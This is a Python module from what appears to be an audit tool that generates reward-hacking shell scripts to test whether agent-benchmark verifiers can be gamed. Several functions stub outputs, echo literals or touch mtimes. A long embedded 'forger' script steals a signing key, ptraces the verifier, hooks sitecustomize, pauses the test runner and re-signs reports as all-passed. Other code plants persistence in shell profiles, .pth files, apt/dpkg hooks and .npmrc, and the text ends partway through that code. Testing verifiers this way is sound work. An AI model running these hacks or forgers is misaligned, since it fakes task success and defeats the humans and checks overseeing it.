"""Scripted, task-agnostic hacks: shell scripts that try to earn reward without doing the task.

Each hack reads only what an agent sees before it starts: the instruction's text and the
working directory it is told about (never tests/ or solution/). `instruction_names` pulls
out what the instruction names: paths (absolute, or file names in backticks relative to the
working directory; a trailing `/` marks a directory), literals (quoted or backticked strings,
numbers) and functions (`module.function`, `def f`, `f()`). Every hack is a pure function of
those names and the working directory to a bash script; the script itself decides at run time
which named paths exist (inputs) and which do not (outputs), as an agent would by looking.

The audit (`audit.hacks`) and synthesis validation run each script as an agent
(`sandbox.CommandAgent`) in a fresh sandbox; `hack_outcome` turns the trial into the share of
the reward the hack earned, assertion by assertion. A verifier a hack satisfies does not
check the work. This module is pure: nothing here runs anything.

The library lives in `tasks/` because both stages need it and neither may import the other.
"""

from __future__ import annotations

import base64
import json
import posixpath
import re
import shlex
import sys
from collections.abc import Callable
from dataclasses import dataclass

from tasks.literals.model import NUM_TOKEN, SHELL_PATH_RE, is_system
from tasks.results import ReferenceVerdict, TrialResult

# File suffixes that make a backticked relative name a path (not a module.function).
_FILE_SUFFIX = re.compile(
    r"\.(txt|json|jsonl|csv|tsv|log|md|py|sh|bash|c|h|cc|cpp|hpp|go|rs|js|ts|rb|pl|java|yaml|"
    r"yml|toml|ini|conf|cfg|env|xml|html|sql|db|sqlite|gz|tgz|tar|zip|bz2|xz|out|pem|key|pub|"
    r"crt|service|timer|socket|cron|diff|patch|lock|pid|list|rules|mk|deb|so|a|o|bin|dat)$"
)
_BACKTICK = re.compile(r"`([^`\n]{1,200})`")
_QUOTED = re.compile(r"\"([^\"\n]{1,200})\"|(?<![\w])'([^'\n]{1,200})'(?![\w])")
_REL_NAME = re.compile(r"^(\.{0,2}/)?[A-Za-z0-9_.@+\-]+(/[A-Za-z0-9_.@+\-]+)*/?$")
_DEF = re.compile(r"\bdef\s+([A-Za-z_]\w*)\s*\(")
_CALL = re.compile(r"^([A-Za-z_]\w*)\(.*\)$")
_DOTTED = re.compile(r"^([A-Za-z_]\w*(?:\.[A-Za-z_]\w*)*)\.([A-Za-z_]\w*)(\(.*\))?$")
HACK_TIMEOUT_S = 60.0
"""A hack's script is a few file operations; one that runs longer is cut (it earns what it
left behind)."""

# Never written by a hack: the kernel's, the harness's and the verifier's places.
_OFF_LIMITS = ("/dev", "/proc", "/sys", "/tests", "/logs", "/solution", "/run", "/var/run")
_BIN_DIRS = ("/usr/local/bin", "/usr/local/sbin", "/bin", "/usr/bin")
SCRIPT_SUFFIXES = (".sh", ".bash", ".py")
MAX_NAMES = 60
EOF = "T1_HACK_EOF"


@dataclass(frozen=True)
class Example:
    """A worked example the instruction shows in a shell session (`$ python3 /app/tool.py 512`
    and the lines it prints): the named program, its arguments, what it printed."""

    program: str
    args: tuple[str, ...]
    output: str


@dataclass(frozen=True)
class Named:
    """What an instruction names: paths (a trailing `/` for a directory), literals, and
    functions as (module or "", name); `beside`: each named path with the literals of the
    sentence that names it (what "write `ready` to `status.txt`" asks for, as a constant);
    `examples`: its worked examples of named programs; `answers`: the literals it tells a
    program to print ("print `valid` and exit with status 0"), in order."""

    paths: tuple[str, ...] = ()
    literals: tuple[str, ...] = ()
    functions: tuple[tuple[str, str], ...] = ()
    beside: tuple[tuple[str, tuple[str, ...]], ...] = ()
    examples: tuple[Example, ...] = ()
    answers: tuple[str, ...] = ()

    @property
    def files(self) -> list[str]:
        return [p for p in self.paths if not p.endswith("/")]

    @property
    def dirs(self) -> list[str]:
        return [p for p in self.paths if p.endswith("/")]


def _writable(path: str) -> bool:
    p = path.rstrip("/") or "/"
    if p == "/" or (p.count("/") < 2 and path.endswith("/")):
        return False  # a top-level directory ("/app/") is the environment's, not an output
    if any(p == q or p.startswith(q + "/") for q in _OFF_LIMITS):
        return False
    if p.startswith(_BIN_DIRS) and posixpath.dirname(p) in _BIN_DIRS:
        return True  # a named wrapper (/usr/local/bin/tool)
    return not is_system(p)


def _norm(path: str, workdir: str) -> str | None:
    path = path.rstrip(".,;:)")
    is_dir = path.endswith("/")
    if not path.startswith("/"):
        path = posixpath.join(workdir, path)
    path = posixpath.normpath(path) + ("/" if is_dir else "")
    if "*" in path or "$" in path or "{" in path:
        return None
    return path if _writable(path) else None


# A sentence ends at `.`/`!`/`?`/`:` before a capital, a backtick or a list item, or at a
# blank line or a new list item.
_SENTENCE_END = re.compile(r"(?<=[.!?:])\s+(?=[A-Z`(*-])|\n\s*\n|\n(?=\s*(?:[-*]|\d+[.)])\s)")


def sentence_pairs(
    instruction: str, workdir: str = "/app"
) -> tuple[tuple[str, tuple[str, ...]], ...]:
    """Each path the instruction names with the literals the sentence(s) naming it set off
    (backticked or quoted: a bare number in prose is a count or a reference)."""
    out: dict[str, dict[str, None]] = {}
    for sentence in _SENTENCE_END.split(instruction):
        named = _names(sentence, workdir, prose_numbers=False)
        for p in named.paths:
            out.setdefault(p, {}).update(dict.fromkeys(named.literals))
    return tuple((p, tuple(lits)) for p, lits in out.items() if lits)[:MAX_NAMES]


def instruction_names(instruction: str, workdir: str = "/app") -> Named:
    """The paths, literals and functions an instruction names (see the module docstring)."""
    named = _names(instruction, workdir)
    return Named(named.paths, named.literals, named.functions,
                 sentence_pairs(instruction, workdir), worked_examples(instruction, workdir),
                 printed_answers(instruction))  # fmt: skip


_FENCE = re.compile(r"^```[^\n]*\n(.*?)^```", re.S | re.M)
_PRINT = re.compile(r"\b(?:print|prints|output|outputs|echo|echoes|answer|answers)\s+`([^`\n]+)`")


def worked_examples(instruction: str, workdir: str = "/app") -> tuple[Example, ...]:
    """The shell sessions of the instruction's code blocks, read as worked examples (pure):
    each `$ ` line that runs a named program (`python3 /app/tool.py 512`, `./bin/tool x`),
    with the lines after it up to the next prompt as what it printed."""
    out: list[Example] = []
    for block in _FENCE.findall(instruction):
        command: list[str] | None = None
        printed: list[str] = []
        for line in [*block.splitlines(), "$ "]:
            if not line.startswith("$ "):
                printed.append(line)
                continue
            if command is not None and (ex := _example(command, printed, workdir)) is not None:
                out.append(ex)
            try:
                command, printed = shlex.split(line[2:]), []
            except ValueError:
                command, printed = None, []
    return tuple(out[:MAX_NAMES])


INTERPRETERS = {"python3", "python", "bash", "sh", "node", "perl", "ruby", "php", "Rscript"}


def program_index(words: list) -> int:
    """Where the program stands in a command's words: first, or after its interpreter
    (`python3 /app/tool.py 512`); `git -C /app/repo log` runs git."""
    return 1 if words and words[0] in INTERPRETERS else 0


def _example(command: list[str], printed: list[str], workdir: str) -> Example | None:
    """The program a session line runs (itself, or the first argument of an interpreter)."""
    at = program_index(command)
    word = command[at] if len(command) > at else ""
    p = _norm(word, workdir) if "/" in word or _FILE_SUFFIX.search(word) else None
    if p is None or p.endswith("/") or not (at or _is_script(p) or "." not in word):
        return None
    return Example(p, tuple(command[at + 1 :]), "".join(f"{x}\n" for x in printed))


def printed_answers(instruction: str) -> tuple[str, ...]:
    """The literals the instruction tells a program to print, in order (pure)."""
    return tuple(dict.fromkeys(m.group(1).strip() for m in _PRINT.finditer(instruction)))


def _names(instruction: str, workdir: str, prose_numbers: bool = True) -> Named:
    paths: dict[str, None] = {}
    literals: dict[str, None] = {}
    functions: dict[tuple[str, str], None] = {}
    for m in SHELL_PATH_RE.finditer(instruction):
        if (p := _norm(m.group(1), workdir)) is not None:
            paths[p] = None
    spans = [m.group(1) for m in _BACKTICK.finditer(instruction)]
    for span in spans:
        s = span.strip()
        if (d := _DOTTED.match(s)) and not _FILE_SUFFIX.search(s.split("(")[0]):
            if d.group(1).split(".")[0] not in sys.stdlib_module_names:
                functions[(d.group(1), d.group(2))] = None
            continue
        if c := _CALL.match(s):
            functions[("", c.group(1))] = None
            continue
        if _REL_NAME.match(s) and not s.startswith("/") and ("/" in s or _FILE_SUFFIX.search(s)):
            if (p := _norm(s, workdir)) is not None:
                paths[p] = None
            continue
        if s.startswith("/") and _REL_NAME.match(s):
            continue  # a path, read above
        literals[s] = None
    for m in _DEF.finditer(instruction):
        functions[("", m.group(1))] = None
    for m in _QUOTED.finditer(instruction):
        s = (m.group(1) or m.group(2) or "").strip()
        if s and not SHELL_PATH_RE.fullmatch(s):
            literals[s] = None
    prose = _BACKTICK.sub(" ", instruction)
    for m in NUM_TOKEN.finditer(prose if prose_numbers else ""):
        literals[m.group(0)] = None
    return Named(
        paths=tuple(list(paths)[:MAX_NAMES]),
        literals=tuple(list(literals)[:MAX_NAMES]),
        functions=tuple(list(functions)[:MAX_NAMES]),
    )


# ---- script pieces -------------------------------------------------------------------------


def _q(s: str) -> str:
    return shlex.quote(s)


def _is_script(path: str) -> bool:
    return path.endswith(SCRIPT_SUFFIXES) or posixpath.dirname(path) in _BIN_DIRS


def _heredoc(path: str, text: str, executable: bool = False) -> str:
    body = text if text.endswith("\n") else text + "\n"
    lines = [f"mkdir -p {_q(posixpath.dirname(path))}", f"cat > {_q(path)} <<'{EOF}'", body + EOF]
    if executable:
        lines.append(f"chmod +x {_q(path)}")
    return "\n".join(lines)


def _py_stub(functions: list[str], prints: str = "") -> str:
    out = ["#!/usr/bin/env python3", "import sys", ""]
    for f in dict.fromkeys(functions):
        out += [f"def {f}(*args, **kwargs):", "    return None", ""]
    out += ['if __name__ == "__main__":']
    if prints:
        out += [f"    sys.stdout.write({prints!r})"]
    out += ["    sys.exit(0)"]
    return "\n".join(out) + "\n"


def _sh_stub(prints: str = "") -> str:
    if not prints:
        return "#!/bin/bash\nexit 0\n"
    return f"#!/bin/bash\ncat <<'T1_HACK_OUT'\n{prints}T1_HACK_OUT\nexit 0\n"


def _program(path: str, functions: list[str], prints: str = "") -> str:
    return _py_stub(functions, prints) if path.endswith(".py") else _sh_stub(prints)


def _if_absent(path: str, body: str) -> str:
    return f"if [ ! -e {_q(path)} ]; then\n{body}\nfi"


def _functions(named: Named, module: str = "") -> list[str]:
    return [f for m, f in named.functions if m == module or (not module and not m)]


def _literal_text(named: Named) -> str:
    return "".join(f"{v}\n" for v in named.literals)


def _roots(named: Named, workdir: str) -> list[str]:
    """The directories a hack may sweep: the working directory and the named directories."""
    out = [workdir.rstrip("/") or "/"]
    for d in named.dirs:
        d = d.rstrip("/")
        if not any(d == r or d.startswith(r + "/") for r in out):
            out.append(d)
    return [r for r in out if r != "/"]


def _find(named: Named, workdir: str, action: str) -> str:
    roots = " ".join(_q(r) for r in _roots(named, workdir))
    if not roots:
        return ""
    return (
        f"find {roots} -xdev -maxdepth 6 -not -path '*/.git/*' -not -name .git "
        f"-exec {action} {{}} + 2>/dev/null"
    )


def module_path(module: str, workdir: str) -> str:
    """Where a dotted module name's file stands below the working directory."""
    return posixpath.join(workdir, *module.split(".")) + ".py"


# ---- the hacks -----------------------------------------------------------------------------


def stub_paths(named: Named, workdir: str) -> list[str]:
    """Every named path that does not exist becomes a stub: a directory for `.../`, a no-op
    program (with the named functions) for a script name, otherwise an empty file."""
    out = []
    for p in named.paths:
        if p.endswith("/"):
            out.append(f"mkdir -p {_q(p)}")
        elif _is_script(p):
            out.append(_if_absent(p, _heredoc(p, _program(p, _functions(named)), True)))
        else:
            out.append(_if_absent(p, f"mkdir -p {_q(posixpath.dirname(p))}\n: > {_q(p)}"))
    return out


def module_stubs(named: Named, workdir: str) -> list[str]:
    """A module `<workdir>/m.py` with no-op functions for every `m.f` the instruction names,
    and the bare functions (`def f`, `f()`) added to every named Python file that is absent."""
    out = []
    modules = dict.fromkeys(m for m, _ in named.functions if m)
    for m in modules:
        p = module_path(m, workdir)
        out.append(_if_absent(p, _heredoc(p, _py_stub(_functions(named, m)))))
    bare = _functions(named)
    if bare:
        for p in [p for p in named.files if p.endswith(".py")] or [
            posixpath.join(workdir, "solution.py")
        ]:
            out.append(_if_absent(p, _heredoc(p, _py_stub(bare), True)))
    return out


def echo_literals(named: Named, workdir: str) -> list[str]:
    """Every literal of the instruction, one a line, into every named file that does not
    exist; a named program that does not exist prints them and exits 0."""
    if not named.literals:
        return []
    text = _literal_text(named)
    out = []
    for p in named.files:
        if _is_script(p):
            out.append(_if_absent(p, _heredoc(p, _program(p, _functions(named), text), True)))
        else:
            out.append(_if_absent(p, _heredoc(p, text)))
    return out


def sentence_literals(named: Named, workdir: str) -> list[str]:
    """Every named file that does not exist gets the literals of the sentence naming it, one
    a line (a named program prints them): a constant the instruction states beside its file
    ("write `ready` to `status.txt`") earns no reward for work. Run by synthesis after the
    parent's solution (an extension's constant needs nothing of the parent's output)."""
    out = []
    for p, lits in named.beside:
        if p.endswith("/"):
            continue
        text = "".join(f"{v}\n" for v in lits)
        body = _program(p, _functions(named), text) if _is_script(p) else text
        out.append(_if_absent(p, _heredoc(p, body, _is_script(p))))
    return out


def shaped_outputs(named: Named, workdir: str) -> list[str]:
    """Every absent named data file gets the shape of an answer and no content: `[]` for
    JSON, the instruction's first comma- (tab-) separated literal as a header for CSV (TSV),
    else nothing. A check that loops over the agent's records passes on none."""
    out = []
    for p in named.files:
        if p.endswith((".json", ".jsonl")):
            text = "[]\n" if p.endswith(".json") else ""
        elif p.endswith((".csv", ".tsv")):
            sep = "," if p.endswith(".csv") else "\t"
            heads = [v for v in named.literals if sep in v and " " not in v.strip()]
            text = heads[0] + "\n" if heads else ""
        else:
            continue
        out.append(_if_absent(p, _heredoc(p, text) if text else f"mkdir -p "
                              f"{_q(posixpath.dirname(p))}\n: > {_q(p)}"))  # fmt: skip
    return out


def copy_inputs(named: Named, workdir: str) -> list[str]:
    """The named files that exist (inputs) concatenated into every named file that does not
    (outputs); with no named input, the regular files of the working directory."""
    files = named.files
    if not files:
        return []
    lines = ["IN=()", "OUT=()"]
    for p in files:
        lines.append(f"if [ -f {_q(p)} ]; then IN+=({_q(p)}); elif [ ! -e {_q(p)} ]; then "
                     f"OUT+=({_q(p)}); fi")  # fmt: skip
    lines.append(
        f'[ ${{#IN[@]}} -eq 0 ] && while IFS= read -r f; do IN+=("$f"); done < '
        f"<(find {_q(workdir)} -maxdepth 2 -type f -not -path '*/.git/*' 2>/dev/null | sort)"
    )
    lines.append(
        'for o in "${OUT[@]}"; do mkdir -p "$(dirname "$o")"; '
        'cat "${IN[@]}" > "$o" 2>/dev/null; done'
    )
    return lines


def exit_zero(named: Named, workdir: str) -> list[str]:
    """Every named program is replaced by one that exits 0: a script name or a file in a bin
    directory, made or replaced; an executable that exists; and a named file with no suffix
    that does not exist (`Write an executable /app/bin/lint-hosts`: what the instruction asks
    to be made is as often a program as data)."""
    out = []
    for p in named.files:
        body = _heredoc(p, _program(p, _functions(named)), True)
        if _is_script(p):
            out.append(body)
        elif "." not in posixpath.basename(p):
            out.append(
                f"if [ ! -e {_q(p)} ] || {{ [ -f {_q(p)} ] && [ -x {_q(p)} ]; }}; then\n{body}\nfi"
            )
        else:
            out.append(f"if [ -f {_q(p)} ] && [ -x {_q(p)} ]; then\n{body}\nfi")
    return out


def _table_program(path: str, examples: list[Example]) -> str:
    """A program that prints, for the arguments of each example, what the example printed
    (for others, what the first one printed) and exits 0."""
    if path.endswith(".py"):
        table = {ex.args: ex.output for ex in examples}
        return (
            "#!/usr/bin/env python3\nimport sys\n"
            f"T = {table!r}\n"
            f"sys.stdout.write(T.get(tuple(sys.argv[1:]), {examples[0].output!r}))\n"
        )
    cases = [f"  {_q(' '.join(ex.args))}) printf '%s' {_q(ex.output)} ;;" for ex in examples]
    cases.append(f"  *) printf '%s' {_q(examples[0].output)} ;;")
    return "\n".join(["#!/bin/bash", 'case "$*" in', *cases, "esac", "exit 0"]) + "\n"


def example_table(named: Named, workdir: str) -> list[str]:
    """Every program the instruction shows worked examples of prints their outputs from a
    table keyed by the arguments: a verifier that runs only the instruction's own examples
    pays for copying them."""
    programs: dict[str, list[Example]] = {}
    for ex in named.examples:
        programs.setdefault(ex.program, []).append(ex)
    return [_heredoc(p, _table_program(p, exs), True) for p, exs in programs.items()]


def constant_answer(named: Named, workdir: str) -> list[str]:
    """Every named program prints the first literal the instruction tells a program to print
    ("print `valid` and exit with status 0") and exits 0, whatever it is given: a verifier
    that never asks for another answer pays for always giving that one."""
    if not named.answers:
        return []
    out = []
    for p in named.files:
        if _is_script(p) or "." not in posixpath.basename(p):
            text = named.answers[0] + "\n"
            out.append(_heredoc(p, _program(p, _functions(named), text), True))
    return out


def touch_now(named: Named, workdir: str) -> list[str]:
    """Every file in the working and named directories, and every named path that exists,
    gets the current time (a verifier comparing mtimes sees fresh work)."""
    out = [_find(named, workdir, "touch -c -h")]
    out += [f"touch -c {_q(p.rstrip('/'))} 2>/dev/null" for p in named.paths]
    return [s for s in out if s]


def epoch_mtimes(named: Named, workdir: str) -> list[str]:
    """Every file in the working and named directories gets mtime 0 (the epoch)."""
    out = [_find(named, workdir, "touch -c -h -d @0")]
    out += [f"touch -c -d @0 {_q(p.rstrip('/'))} 2>/dev/null" for p in named.paths]
    return [s for s in out if s]


def make_dirs(named: Named, workdir: str) -> list[str]:
    """Every named directory and the parent directory of every named path, created."""
    dirs = dict.fromkeys([*named.dirs, *(posixpath.dirname(p) + "/" for p in named.files)])
    return [f"mkdir -p {_q(d)}" for d in dirs if _writable(d)]


def chmod_x(named: Named, workdir: str) -> list[str]:
    """Every named path that exists, and every file in the working directory, made
    executable (and readable)."""
    out = [_find(named, workdir, "chmod a+rx")]
    out += [f"chmod a+rx {_q(p.rstrip('/'))} 2>/dev/null" for p in named.paths]
    return [s for s in out if s]


def git_commit(named: Named, workdir: str) -> list[str]:
    """In every git repository at the working or a named directory, commit the current tree
    (untracked files included) with the instruction's first string literal as the message."""
    words = [v for v in named.literals if not NUM_TOKEN.fullmatch(v)]
    msg = words[0] if words else "update"
    out = []
    for r in _roots(named, workdir):
        out.append(
            f"if top=$(git -C {_q(r)} rev-parse --show-toplevel 2>/dev/null); then "
            f'git -C "$top" add -A >/dev/null 2>&1; '
            f'git -C "$top" -c user.name=t1 -c user.email=t1@localhost commit -q '
            f"--allow-empty -m {_q(msg)} >/dev/null 2>&1; fi"
        )
    return out


# The report forger `forge_reports` and `forge_config` plant, in the working directory (what
# the agent leaves there is carried into the verifier's sandbox; /tmp is not). Run by anything
# of the verifier's (a program its script runs, a configuration its tools read), it forges
# only where it runs as the judge (the report directory writable); a program a test runner
# starts runs in the agent's domain and gives it nothing. As the judge it keeps the report
# channel's key if no test runner has taken it yet and, best first: traces the entry script
# (ptrace; refused in the verifier phase of this project's sandboxes, allowed in Docker's) and
# rewrites every report when it exits; or, when no test runner will take the key (the
# verifier's scripts name none), writes authenticated all-passed records at once, the key
# taken; or adds an exit hook to the startup module every Python of the verifier imports (the
# first sitecustomize on its path: the report channel's loader), so that the runner itself
# re-signs its records all-passed as it exits, before the entry script can end; or, where that
# module is not its to change (a verifier run as another user than root), a process of its own
# keeps the runner stopped (SIGSTOP: the same user) but for 1 ms slices until its closing
# record is written, re-signs the records and lets it go. Nothing of it may outlive the entry
# (the judge's sandbox ends with it, sandbox/judge.py); the entry cannot end while its runner
# is stopped. It writes in the report directory, under /tmp and in that startup module (the
# judge's own file, which a program run as the judge may change).
FORGER_NAME = ".t1-forge.sh"
FORGER = r"""#!/bin/bash
# usage: forge.sh        (from anything of the verifier's: set up, return at once)
#        forge.sh final  (rewrite every report, re-sign the channel's records)
R=/logs/verifier; S=/tmp/.t1-forge; P=$R/t1-verdict.jsonl
pass() {  # stdin: a report named $1; stdout: the same report, every outcome passed
  case "$1" in
    *reward.txt) echo 1 ;;
    *.json) perl -pe 's/"status"\s*:\s*"(failed|error|skipped|other|pending)"/"status": "passed"/g;
                      s/"(failed|skipped|pending|other|errors?)"\s*:\s*\d+/"$1": 0/g' ;;
    *.xml) perl -0pe 's/<(failure|error|skipped)\b[^>]*\/>//g;
                     s/<(failure|error|skipped)\b.*?<\/\1>//gs;
                     s/\b(failures|errors|skipped)="\d+"/$1="0"/g' ;;
    *) cat ;;
  esac
}
sign() {  # $1: resign (the runner's records, all passed) or new (records of our own)
  python3 $S.sign.py "$1" "$(cat $S.key)" "$P"
}
if [ "$1" = final ]; then
  for f in $R/*; do
    case "$f" in *t1-verdict*) continue;; esac
    [ -f "$f" ] && new=$(pass "$f" < "$f") && printf '%s\n' "$new" > "$f"
  done
  [ -s $S.key ] && [ -s $P ] && sign resign
  exit 0
fi
[ -d $R ] && [ -w $R ] || exit 0
mkdir $S.lock 2>/dev/null || exit 0
cp $R/.t1-verdict-key $S.key 2>/dev/null  # the channel's key, if no test runner took it yet
cat > $S.sign.py <<'T1_FORGE_PY'  # sign(how, key, path): `sign` and the exit hook run it
import hashlib, hmac, json, os, sys
def sign(how, key, path):
    key = bytes.fromhex(key)
    if how == "new":
        bodies = [{"kind": "start", "runner": "pytest", "pid": os.getpid()},
                  {"kind": "test", "name": "forged", "outcome": "passed", "message": "",
                   "duration": 0.0}, {"kind": "end", "exitstatus": 0, "tests": 1}]
    else:
        bodies = []
        for line in open(path).read().splitlines():
            try:
                body = json.loads(json.loads(line)["b"])
            except Exception:
                continue  # a later pytest's "unkeyed" line: dropped
            if body.get("kind") not in ("agent_code", "agent_word"):  # the runner's marks too:
                bodies.append(body)  # with the first key all of it is signed again, unmarked
    out = []
    for seq, b in enumerate(bodies):
        b["seq"] = seq
        if b.get("kind") == "test":
            b["outcome"], b["message"] = "passed", ""
        t = json.dumps(b, sort_keys=True, separators=(",", ":"))
        mac = hmac.new(key, t.encode(), hashlib.sha256).hexdigest()
        out.append(json.dumps({"b": t, "m": mac}, separators=(",", ":")))
    open(path + ".t1", "w").write("".join(o + "\n" for o in out))
    os.replace(path + ".t1", path)
if __name__ == "__main__":
    sign(*sys.argv[1:4])
T1_FORGE_PY
top=; p=$PPID  # the outermost shell this program runs under: the verifier's entry
while [ -n "$p" ] && [ "$p" -ge 1 ]; do
  case "$(cat /proc/$p/comm 2>/dev/null)" in bash|sh|dash|zsh) top=$p;; esac
  [ "$p" = 1 ] && break
  p=$(awk '{print $4}' /proc/$p/stat 2>/dev/null)
done
entry=$(tr '\0' '\n' < /proc/${top:-0}/cmdline 2>/dev/null | sed -n 2p)  # bash SCRIPT
command -v python3 >/dev/null || exit 0
# 1. trace the entry script: when it exits (stopped before its parent learns of it), run the
#    final rewrite, then let it go
python3 - "$top" "$0" </dev/null >/dev/null 2>&1 <<'T1_FORGE_PY' &
import ctypes, os, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
pid, forger = int(sys.argv[1] or 0), sys.argv[2]
seized = pid > 0 and libc.ptrace(0x4206, pid, None, ctypes.c_void_p(0x40)) == 0
open("/tmp/.t1-forge.traced", "w").write("1" if seized else "0")
if not seized:
    sys.exit(0)
while True:
    try:
        _, status = os.waitpid(pid, 0x40000000)  # __WALL
    except ChildProcessError:
        break
    if not os.WIFSTOPPED(status):
        break
    event, sig = status >> 16, os.WSTOPSIG(status)
    if event == 6:  # PTRACE_EVENT_EXIT
        subprocess.run(["bash", forger, "final"], timeout=120)
        libc.ptrace(17, pid, None, None)  # DETACH
        break
    libc.ptrace(7, pid, None, ctypes.c_void_p(0 if event else sig))  # CONT
T1_FORGE_PY
for _ in $(seq 200); do [ -s $S.traced ] && break; sleep 0.05; done
[ "$(cat $S.traced 2>/dev/null)" = 1 ] && exit 0
[ -s $S.key ] || exit 0
# 2. no test runner named by the verifier's scripts (the entry's arguments: its script, or a
#    shadow of its shell on PATH and then the script): our own records are the verdict
args=$(tr '\0' '\n' < /proc/${top:-0}/cmdline 2>/dev/null | sed 1d)
if ! grep -qsE 'pytest|py\.test|run_checks' $args "$(dirname "${entry:-.}")"/*.sh; then
  sign new && rm -f $R/.t1-verdict-key
  exit 0
fi
# 3. a runner will take the key: the runner re-signs its records as it exits (their closing
#    record written), in its own process, through an exit hook added to the first
#    sitecustomize on the verifier's Python path (the report channel's loader, imported by
#    every Python of the verifier); a program a runner starts cannot read the records
hook=$(python3 -c 'import importlib.machinery as m, sys  # the one imported at startup
s = m.PathFinder.find_spec("sitecustomize", [p for p in sys.path if p])
print(s.origin if s else "")' 2>/dev/null)
if ! [ -f "$hook" ] || ! [ -w "$hook" ]; then
  # 4. no startup module to hook (a verifier run as another user than root): a process of our
  #    own keeps the runner stopped (same user) but for 1 ms slices until its closing record
  #    is written, re-signs the records and lets it go: the entry cannot end meanwhile
  python3 - </dev/null >/dev/null 2>&1 <<'T1_FORGE_PY' &
import json, os, runpy, signal, time
records, key = "/logs/verifier/t1-verdict.jsonl", open("/tmp/.t1-forge.key").read().strip()
pid, end = None, time.monotonic() + 3600
while pid is None and time.monotonic() < end:  # the runner names itself in its first record
    try:
        pid = json.loads(json.loads(open(records).readline())["b"])["pid"]
    except Exception:
        time.sleep(0.001)
try:
    while time.monotonic() < end:
        os.kill(pid, signal.SIGSTOP)
        if '\\"kind\\":\\"end\\"' in open(records).read():
            runpy.run_path("/tmp/.t1-forge.sign.py")["sign"]("resign", key, records)
            break
        os.kill(pid, signal.SIGCONT)
        time.sleep(0.001)
finally:
    os.kill(pid, signal.SIGCONT)
T1_FORGE_PY
  exit 0
fi
cat >> "$hook" <<'T1_FORGE_PY'


def _t1_forge_exit():
    import runpy
    records = "/logs/verifier/t1-verdict.jsonl"
    try:
        closed = '\\"kind\\":\\"end\\"' in open(records).read()
        key = open("/tmp/.t1-forge.key").read().strip()
        if closed and key:
            runpy.run_path("/tmp/.t1-forge.sign.py")["sign"]("resign", key, records)
    except Exception:
        pass


__import__("atexit").register(_t1_forge_exit)
T1_FORGE_PY
exit 0
"""


def forger_path(workdir: str) -> str:
    return posixpath.join(workdir.rstrip("/") or "/", FORGER_NAME)


def _forge_lines(workdir: str) -> tuple[str, str]:
    """The shell line and the Python line that run the forger (SHL, PYL). By its path: the
    `bash` first on PATH may be a shadow forge_config planted, which runs SHL itself."""
    sh = f"/bin/bash {_q(forger_path(workdir))} </dev/null >/dev/null 2>&1"
    return sh, f"import os as _t1f; _t1f.system({sh!r})"


# bash: `inject FILE` makes FILE run the forger first (SHL, PYL: the lines that run it)
_INJECT = r"""inject() {
  f=$1; case "$f" in *.t1-real|*/.git/*|*/.t1-forge.sh) return;; esac
  first=$(head -n 1 "$f" 2>/dev/null); shebang=; [ "${first#\#!}" != "$first" ] && shebang=1
  at() { if [ -n "$shebang" ]; then sed -i "1a $1" "$f"; else sed -i "1i $1" "$f"; fi; }
  py() { if grep -q '^from __future__' "$f"; then printf '\n%s\n' "$PYL" >> "$f";
         else at "$PYL"; fi; }
  case "$f" in *.py) py; return;; *.sh|*.bash) at "$SHL"; return;; esac
  case "$first" in '#!'*python*) py; return;; '#!'*sh*) at "$SHL"; return;; '#!'*) return;; esac
  [ -x "$f" ] || return
  mv "$f" "$f.t1-real" && printf '#!/bin/bash\n%s\nexec %q "$@"\n' "$SHL" "$f.t1-real" > "$f" \
    && chmod +x "$f"
}"""


def forge_reports(named: Named, workdir: str) -> list[str]:
    """A report forger in every program of the agent's the verifier may run: each script and
    executable in the working and named directories (and each named program that is
    missing) first runs FORGER, which, inside the verifier's run, makes every report the
    verifier writes say all-passed. A verifier whose verdict is its test runner's
    authenticated records (the report channel) gives it nothing; one that reads report files
    while it runs the agent's programs gives it everything (docs/sandbox.md)."""
    shl, pyl = _forge_lines(workdir)
    out = [_heredoc(forger_path(workdir), FORGER, True), f"SHL={_q(shl)}; PYL={_q(pyl)}", _INJECT]
    programs = [p for p in named.files if _is_script(p) and _writable(p)]
    for p in programs:
        stub = _py_stub(_functions(named)) if p.endswith(".py") else _sh_stub()
        out.append(_if_absent(p, _heredoc(p, stub, True)))
    roots = _roots(named, workdir)
    if roots:
        out.append(
            f"find {' '.join(_q(r) for r in roots)} -xdev -maxdepth 6 -type f -not -path "
            r"'*/.git/*' -size -1024k \( -perm -u+x -o -name '*.py' -o -name '*.sh' -o -name "
            r"'*.bash' \) -print 2>/dev/null | while IFS= read -r f; do inject " + '"$f"; done'
        )
    # named programs outside the swept directories (each injected once)
    outside = [p for p in programs if not any(p.startswith(r + "/") for r in roots)]
    out += [f"[ -f {_q(p)} ] && inject {_q(p)}" for p in outside]
    return out


# Where an agent can leave a command for the verifier's own tools to run, beyond its programs
# (forge_config): sourced env files and shell profiles, Python's startup hooks, apt's and
# dpkg's hooks, npm's node options, git's fsmonitor, and programs shadowed on PATH. pip and
# uv configuration name no command (they could point an install at the agent's packages;
# not planted). Each runs the forger; most live outside the working directory, so they are
# measured against a verifier that would read the agent's system (none, in this project's
# sandboxes: docs/sandbox.md, "The judge").
_CONFIG_SH = (
    "$HOME/.local/bin/env", "$HOME/.bashrc", "$HOME/.profile", "$HOME/.bash_profile",
    "/etc/profile.d/zz-t1.sh", "/etc/bash.bashrc", "{wd}/.env", "{wd}/.envrc",
)  # fmt: skip
_CONFIG_PY = ("{wd}/conftest.py", "{wd}/sitecustomize.py")
_SHADOWED = ("python3", "python", "pytest", "bash", "sh", "git", "make", "npm", "node", "uv")
_PLANT_CONFIG = r"""plant() { mkdir -p "$(dirname "$1")" 2>/dev/null; printf '%s\n' "$2" >> "$1"; }
for f in $SH_FILES; do plant "$f" "$SHL"; done
for f in $PY_FILES; do plant "$f" "$PYL"; done
for d in $(python3 -c 'import site; print(" ".join(site.getsitepackages()))' 2>/dev/null); do
  [ -d "$d" ] && [ -w "$d" ] && printf '%s\n' "$PYL" > "$d/zz-t1-forge.pth"
done
plant /etc/apt/apt.conf.d/00t1-forge \
  "APT::Update::Pre-Invoke {\"$SHL\";}; DPkg::Pre-Invoke {\"$SHL\";};"
plant /etc/dpkg/dpkg.cfg.d/t1-forge "pre-invoke=$SHL"
printf '%s\n' "require('child_process').spawnSync('bash', ['$FORGER'], {stdio: 'ignore'});" \
  > "$WD/.t1-forge.js"
for f in "$WD/.npmrc" "$HOME/.npmrc"; do plant "$f" "node-options=--require $WD/.t1-forge.js"; done
